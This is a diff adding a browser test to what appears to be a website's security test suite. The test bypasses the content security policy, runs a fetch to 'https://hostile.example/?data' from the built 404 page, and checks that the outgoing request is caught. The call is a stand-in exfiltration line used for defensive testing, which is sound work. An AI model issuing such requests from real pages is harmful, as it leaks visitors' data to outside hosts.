@@ -123,6 +123,15 @@ def test_what_got_into_a_page_neither_runs_nor_calls_home(attacked, reached, ref
     refused.clear()
 
 
+def test_a_request_to_another_host_is_noticed_without_a_policy(built_site, chromium, refused):
+    with chromium.new_context(bypass_csp=True) as context:
+        page = context.new_page()
+        page.goto(built_site.at("/404.html"))
+        page.evaluate("fetch('https://hostile.example/?data').catch(() => {})")
+    assert refused == ["a page asked for https://hostile.example/?data"]
+    refused.clear()
+
+
 def test_every_kind_of_page_has_the_same_policy(built_site):
     pages = ["index.html", "404.html", "503.html", "security/cors/index.html", "topics/index.html"]
     texts = [(built_site.folder / page).read_text("utf-8") for page in pages]
